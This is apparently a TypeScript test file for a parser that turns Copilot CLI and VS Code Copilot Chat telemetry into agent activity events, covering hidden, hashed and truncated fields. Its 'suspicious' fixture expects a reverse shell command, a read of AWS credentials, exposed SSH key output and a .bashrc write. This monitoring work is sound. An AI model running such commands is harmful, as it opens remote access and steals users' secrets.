import { fixture, line, step, tell } from '../../test/support/recorded';
import type { AttributeValue, LogRecord, SpanRecord } from '../../contracts/telemetry';
import { copilot } from './copilot-cli';

const SETTING = 'OTEL_INSTRUMENTATION_GENAI_CAPTURE_MESSAGE_CONTENT=true';

describe('by default', () => {
  const { events } = tell(fixture('copilot/benign-default'));

  it('has tool names and exit codes, and says what is hidden', () => {
    expect(step(events, 13)).toEqual(['execute_tool bash bash completed: exec (ok, exit 3)']);
    const failing = events.find((event) => event.outcome?.exitCode === 3);
    expect(failing?.visibility).toEqual([
      { field: 'outcome.output', state: 'hidden', setting: SETTING },
      { field: 'action.command', state: 'hidden', setting: SETTING },
    ]);
  });

  it('takes the hash of an MCP tool for no name', () => {
    const call = events.find(({ action }) => action.type === 'mcp.call');
    expect(call?.action).toEqual({ type: 'mcp.call', tool: '' });
    expect(call?.visibility).toContainEqual({ field: 'action.tool', state: 'hashed', setting: SETTING });
  });

  it('tells a prompt of a person without its text', () => {
    expect(events.filter(({ action }) => action.type === 'prompt').map(({ action }) => action)).toEqual([
      { type: 'prompt', origin: 'human' },
    ]);
  });
});

describe('with content', () => {
  const { events } = tell(fixture('copilot/suspicious-full'));

  it('reads commands, paths and results', () => {
    expect(step(events, 1)).toEqual([
      "execute_tool bash bash completed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' (ok, exit 1)",
    ]);
    expect(step(events, 2)).toEqual(['execute_tool view completed: file.read path=/home/dev/.aws/credentials (ok)']);
    expect(events.find((event) => line(event).includes('id_rsa'))?.outcome?.output).toContain('OPENSSH');
  });

  it('takes what went wrong from the exception', () => {
    const failed = events.find(({ phase }) => phase === 'failed');
    expect(failed?.action).toMatchObject({ type: 'file.write', path: '/home/dev/.bashrc' });
    expect(failed?.outcome).toMatchObject({ status: 'error', error: 'Path already exists' });
  });

  it('counts tokens of the calls, not the sum on the turn', () => {
    const calls = events.filter(({ action }) => action.type === 'model.call' && action.metric === undefined);
    expect(calls.map(({ action }) => action)).toEqual([
      expect.objectContaining({ inputTokens: 5_200, cachedInputTokens: 4_096, outputTokens: 82 }),
    ]);
  });

  it('reads MCP calls and the work of a sub-agent', () => {
    const { events: benign } = tell(fixture('copilot/benign-full'));
    expect(step(benign, 11)).toEqual([
      'execute_tool notes-lookup completed: mcp.call server=notes arguments={"key":"release","limit":2} (ok)',
    ]);
    const inner = benign.find(({ action }) => action.type === 'exec' && action.command?.startsWith('find src'));
    expect(inner?.agent).toEqual({ family: 'copilot', name: 'general-purpose' });
  });
});

describe('Copilot Chat of VS Code', () => {
  const resource = { 'service.name': 'copilot-chat' };
  const origin = { resource, scope: { name: 'copilot-chat', version: '', attributes: {} } };
  const span = (attributes: Record<string, AttributeValue>): SpanRecord => ({
    kind: 'span',
    origin,
    traceId: 'a'.repeat(32),
    spanId: 'b'.repeat(16),
    parentSpanId: '',
    name: 'execute_tool run_in_terminal',
    spanKind: 1,
    startUnixNano: 0n,
    endUnixNano: 0n,
    attributes: { 'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'run_in_terminal', ...attributes },
    events: [],
    statusCode: 0,
    statusMessage: '',
  });

  it('notes that a command is cut at 256 characters', () => {
    const command = 'x'.repeat(256);
    expect(copilot.read(span({ 'github.copilot.tool.parameters.command': command }))).toMatchObject([
      {
        action: { type: 'exec', command },
        visibility: expect.arrayContaining([{ field: 'action.command', state: 'truncated' }]),
      },
    ]);
  });

  it('names its own setting', () => {
    expect(copilot.recognises(span({}))).toBe(true);
    expect(copilot.read(span({}))).toMatchObject([
      {
        visibility: expect.arrayContaining([
          expect.objectContaining({ setting: 'github.copilot.chat.otel.captureContent: true' }),
        ]),
      },
    ]);
  });

  it('starts a session by its log', () => {
    const log: LogRecord = {
      kind: 'log',
      origin,
      timeUnixNano: 5_000_000n,
      observedUnixNano: 0n,
      severityNumber: 0,
      severityText: '',
      body: null,
      eventName: 'copilot_chat.session.start',
      attributes: {},
      traceId: '',
      spanId: '',
    };
    expect(copilot.read(log)).toMatchObject([{ action: { type: 'session.start' }, atMs: 5 }]);
  });
});
